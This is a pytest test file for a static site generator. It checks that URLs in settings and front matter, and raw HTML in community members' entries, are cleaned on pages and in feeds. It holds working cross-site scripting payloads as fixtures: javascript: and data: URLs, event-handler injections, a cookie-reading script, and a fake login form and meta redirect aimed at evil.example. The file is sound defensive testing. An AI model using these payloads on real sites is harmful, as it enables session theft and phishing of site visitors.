"""Other people's words on the site (issue 23): the URLs settings and front matter link to, and what
the members of a community site write, are checked as readers will meet them, on pages and in feeds.

Two holes of one kind: a `javascript:` URL in `author.url` reached a `rel="me"` link, and a member's
`<script>` ran on every page and in every feed that showed their entry.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest

from conftest import entry, write
from hostile_support import assert_clear, assert_fails_with, build, guarded_build

# A URL in an href or src that is no web address, written as people slip it past a careless check.
NOT_WEB = [
    "javascript:alert(1)",
    "' JaVaScRiPt:alert(1)'",
    "\"java\\tscript:alert(1)\"",
    "'data:text/html,<script>alert(1)</script>'",
    "vbscript:msgbox(1)",
    "'&#106;avascript:alert(1)'",
    "//evil.example/",
]

# Each setting that becomes a link, and the start of the problem that must name it.
SETTINGS = {
    "author.url": ("author:\n  name: Ada\n  url: {url}\n", "publog.yaml:1: 'author.url'"),
    "author.links": ("author:\n  name: Ada\n  links: [{url}]\n", "publog.yaml:1: 'author.links'"),
    "webmention": ("webmention: {url}\n", "publog.yaml:1: 'webmention'"),
    "respond": ("respond: {url}\n", "publog.yaml:1: 'respond'"),
    "member links": ("members:\n  - id: ada\n    name: Ada\n    links: [{url}]\n", "publog.yaml:1: member 1 (ada) 'links'"),
    "member feed": ("members:\n  - id: ada\n    name: Ada\n    feed: {url}\n", "publog.yaml:1: member 1 (ada) 'feed'"),
}


@pytest.mark.parametrize("url", NOT_WEB)
@pytest.mark.parametrize("setting", SETTINGS)
def test_a_setting_that_links_somewhere_takes_only_a_web_address(tmp_path: Path, setting: str, url: str) -> None:
    written, problem = SETTINGS[setting]
    root = write(tmp_path / "journal", {
        "publog.yaml": written.format(url=url),
        "entries/2024-05-01-a.md": entry("A", "2024-05-01"),
    })
    run = guarded_build(tmp_path, root)
    assert_fails_with(run, problem)
    assert not (root / "_site").exists()


def test_the_authors_own_web_address_is_their_rel_me_link(tmp_path: Path) -> None:
    root = write(tmp_path / "journal", {
        "publog.yaml": "author:\n  name: Ada\n  url: HTTPS://ada.example/\n",
        "entries/2024-05-01-a.md": entry("A", "2024-05-01"),
    })
    run = build("build", root)
    assert_clear(run)
    assert run.code == 0, run.err
    links = [a for a in _elements((root / "_site/index.html").read_text()) if a[0] == "a" and "me" in a[1].get("rel", "")]
    assert [a[1]["href"] for a in links] == ["HTTPS://ada.example/"]


# Front matter keys that become links, each given a URL that is no web address.
FRONT_MATTER = {
    "discuss": {"discuss": "javascript:alert(1)"},
    "syndication": {"syndication": "[https://social.example/@ada/1, ' javascript:alert(1)']"},
    "sources": {"kind": "log", "sources": "[{title: A book, url: 'JAVASCRIPT:alert(1)'}]"},
    "answer": {"kind": "question", "status": "answered", "answer": "javascript:alert(1)"},
}


@pytest.mark.parametrize("key", FRONT_MATTER)
def test_a_link_in_front_matter_takes_only_a_web_address(tmp_path: Path, key: str) -> None:
    meta = FRONT_MATTER[key]
    root = write(tmp_path / "journal", {"entries/2024-05-01-a.md": entry("A", "2024-05-01", **meta)})
    line = 4 + list(meta).index(key)  # after ---, title and date
    run = guarded_build(tmp_path, root)
    assert_fails_with(run, f"entries/2024-05-01-a.md:{line}: '{key}'")
    assert not (root / "_site").exists()


# --- a community's members ---------------------------------------------------------------------------

# What a member can write in Markdown's raw HTML to run code, load something, or cover the page.
HOSTILE = """\
Joins, as I learned them: [my other note](2024-05-02-other.md), a [[Other note]], ![a plan](plan.png).

| left | right |
|:-----|------:|
| 1    | 2     |

Footnoted[^1].

[^1]: The note.

<script>window.stolen = document.cookie</script>
<img src="x.png" onerror="alert('img')"><a href="javascript:alert('a')">a</a> <a href="  JaVaScRiPt&#58;alert('b')">b</a>
<a href="data:text/html,&lt;script&gt;alert('c')&lt;/script&gt;">c</a> <a href="vbscript:msgbox('d')">d</a>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">Your session ended</div>
<svg onload="alert('svg')"></svg><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>
<p onmouseover="alert('p')" style="background:url(javascript:alert('e'))">hover</p>
<details open ontoggle="alert('details')"><summary>more</summary>hidden</details>
"""
FORBIDDEN = {"script", "iframe", "frame", "frameset", "form", "button", "textarea", "select", "object", "embed",
             "applet", "svg", "math", "meta", "base", "link", "style", "template", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "cite", "background", "srcset", "xlink:href"}
SAFE_SCHEMES = {"http", "https", "mailto"}
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU\x00\x00\x00\n"
       b"IDATx\x9cc`\x00\x00\x00\x02\x00\x01H\xaf\xa4q\x00\x00\x00\x00IEND\xaeB`\x82")  # one grey pixel

GUILD = """\
title: The guild
base_url: https://guild.example/
members:
  - id: ada
    name: Ada Park
    journal: members/ada
  - id: sam
    name: Sam Okafor
"""


def guild(tmp_path: Path, settings: str = GUILD) -> Path:
    """A community where Ada writes in a folder of her own, Sam in its entries folder (``author: sam``),
    and the community's own entry has no author."""
    return write(tmp_path / "guild", {
        "publog.yaml": settings,
        "members/ada/2024-05-01-hostile.md": entry("Joins <script>alert('title')</script>", "2024-05-01", tags="[sql]",
                                                   summary="'<img src=x onerror=alert(1)>'", body=HOSTILE),
        "members/ada/2024-05-02-other.md": entry("Other note", "2024-05-02", body="<script>window.other = 1</script>Fine."),
        "members/ada/plan.png": PNG,
        "entries/2024-05-03-sam.md": entry("Sam's notes", "2024-05-03", author="sam", tags="[sql]",
                                           body="<script>window.sam = 1</script><a href='javascript:alert(2)'>x</a> Hi."),
        "entries/2024-05-04-ours.md": entry("Ours", "2024-05-04", body="<script>window.ours = 1</script>\n\n![[Other note]]\n"),
    })


def test_what_a_member_writes_runs_nothing_on_pages_or_in_feeds(tmp_path: Path) -> None:
    root = guild(tmp_path)
    run = build("build", root)
    assert_clear(run)
    assert run.code == 0, run.err
    site = root / "_site"
    page = (site / "members/ada/2024/hostile/index.html").read_text()
    body = _content(page)
    assert _dangers(body) == []
    # What Markdown makes of her text stays: links to her entries, images, tables, footnotes.
    shown = _elements(body)
    assert ("a", {"href": "/members/ada/2024/other/"}) in [(t, {"href": a.get("href")}) for t, a in shown if t == "a"]
    assert any(t == "img" and a.get("src", "").endswith("plan.png") for t, a in shown)
    assert any(t == "td" and a.get("style") == "text-align:right" for t, a in shown)
    assert any(t == "a" and a.get("href") == "#fn1" for t, a in shown)
    assert "Your session ended" in body and "Joins, as I learned them" in body
    # Her title and summary are text wherever they are shown.
    assert _page_dangers(page) == [] and "Joins &lt;script&gt;" in page
    assert _page_dangers((site / "members/ada/index.html").read_text()) == []
    assert _page_dangers((site / "index.html").read_text()) == []
    # Sam writes in the community's folder: a member too.
    assert _dangers(_content((site / "2024/sam/index.html").read_text())) == []
    # The community's own entry embeds Ada's note: her part of it is cleaned, its own HTML is its own.
    ours = _content((site / "2024/ours/index.html").read_text())
    assert "window.ours" in ours and "window.other" not in ours and "Fine." in ours
    # Every feed that carries a member's entry carries it cleaned, as readers parse it.
    items = _feed_items(site)
    theirs = [(f, html) for f, title, html in items if title.startswith(("Joins", "Sam's", "Other"))]
    assert {f for f, _ in theirs} >= {"feed.xml", "atom.xml", "feed.json", "members/ada/feed.xml", "members/ada/atom.xml",
                                      "topics/sql/feed.xml"}
    for feed, html in theirs:
        assert _dangers(html) == [], feed
        assert "Joins, as I learned them" in html or "Hi." in html or "Fine." in html, feed
    assert all(title.startswith("Joins <script>") for f, title, _ in items if title.startswith("Joins")), "the title is text"


def test_a_trusted_member_and_the_community_keep_their_own_html(tmp_path: Path) -> None:
    root = guild(tmp_path, GUILD.replace("    journal: members/ada\n", "    journal: members/ada\n    trusted: true\n"))
    run = build("build", root)
    assert_clear(run)
    assert run.code == 0, run.err
    site = root / "_site"
    assert "<script>window.stolen" in (site / "members/ada/2024/hostile/index.html").read_text()
    assert "<script>window.ours" in (site / "2024/ours/index.html").read_text()
    assert "window.sam" not in (site / "2024/sam/index.html").read_text()  # Sam is not trusted
    assert any("window.stolen" in html for f, _, html in _feed_items(site) if f == "members/ada/feed.xml")


@pytest.mark.parametrize("value", ["yes please", "'true'", "1", "[true]"])
def test_trusted_is_true_or_false(tmp_path: Path, value: str) -> None:
    root = guild(tmp_path, GUILD.replace("    journal: members/ada\n", f"    journal: members/ada\n    trusted: {value}\n"))
    assert_fails_with(guarded_build(tmp_path, root), "publog.yaml:3: member 1 (ada) 'trusted'")


def test_a_members_name_and_bio_are_text_and_their_links_web_addresses(tmp_path: Path) -> None:
    link = "    links: [\"https://ada.example/\\\" onclick=\\\"alert(1)\"]\n"
    settings = GUILD.replace("    name: Ada Park\n", "    name: \"Ada <script>alert('name')</script>\"\n"
                             "    bio: \"<img src=x onerror=alert('bio')>\"\n")
    root = guild(tmp_path, settings.replace("    journal: members/ada\n", "    journal: members/ada\n" + link))
    assert_fails_with(guarded_build(tmp_path, root), "publog.yaml:3: member 1 (ada) 'links'")
    (root / "publog.yaml").write_text(settings, encoding="utf-8")
    run = build("build", root)
    assert_clear(run)
    assert run.code == 0, run.err
    site = root / "_site"
    for page in ("members/index.html", "members/ada/index.html", "members/ada/2024/hostile/index.html", "index.html"):
        assert _page_dangers((site / page).read_text()) == [], page
    for feed, title, html in _feed_items(site):
        assert title == "Ours" or _dangers(html) == [], feed  # the community's own entry keeps its script
    authors = [a.get("name", "") for f in ("feed.xml", "atom.xml") for e in _parsed(site / f).entries for a in e.get("authors", [])]
    assert "Ada <script>alert('name')</script>" in authors  # as text, which a reader escapes


# --- reading pages and feeds as a browser and a feed reader do -----------------------------------------

class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def _elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def _content(page: str) -> str:
    """An entry page's body, as written between its content's tags."""
    match = re.search(r'<div class="content e-content">(.*?)\n  </div>\n', page, re.S)
    assert match, "no entry content on the page"
    return match.group(1)


def _dangers(html: str) -> list[str]:
    """What in ``html`` could run code, load a page, or draw over the site."""
    found = []
    for tag, attrs in _elements(html):
        if tag in FORBIDDEN:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
                if scheme and scheme.group(1) not in SAFE_SCHEMES:
                    found.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and not re.fullmatch(r"text-align:\s*\w+;?", value.strip()):
                found.append(f"<{tag} style={value!r}>")
    return found


def _page_dangers(page: str) -> list[str]:
    """Dangers of a whole page but the site's own: the meta and link elements of its head, and the
    SVG of its link maps and calendars (an entry's content is checked on its own, SVG included)."""
    head, _, body = page.partition("<body>")
    return [d for d in _dangers(head) if d not in ("<meta>", "<link>")] + [d for d in _dangers(body) if d != "<svg>"]


def _parsed(path: Path) -> feedparser.FeedParserDict:
    return feedparser.parse(path.read_bytes(), sanitize_html=False, resolve_relative_uris=False)


def _feed_items(site: Path) -> list[tuple[str, str, str]]:
    """(feed, item title, item HTML) of every item of every feed of the site."""
    items = []
    for path in sorted(site.rglob("*")):
        rel = path.relative_to(site).as_posix()
        if path.name in ("feed.xml", "atom.xml"):
            for item in _parsed(path).entries:
                html = "".join(c.value for c in item.get("content", [])) or item.get("summary", "")
                items.append((rel, item.get("title", ""), html))
        elif path.name == "feed.json":
            for item in json.loads(path.read_text())["items"]:
                items.append((rel, item.get("title", ""), item.get("content_html", "")))
    return items
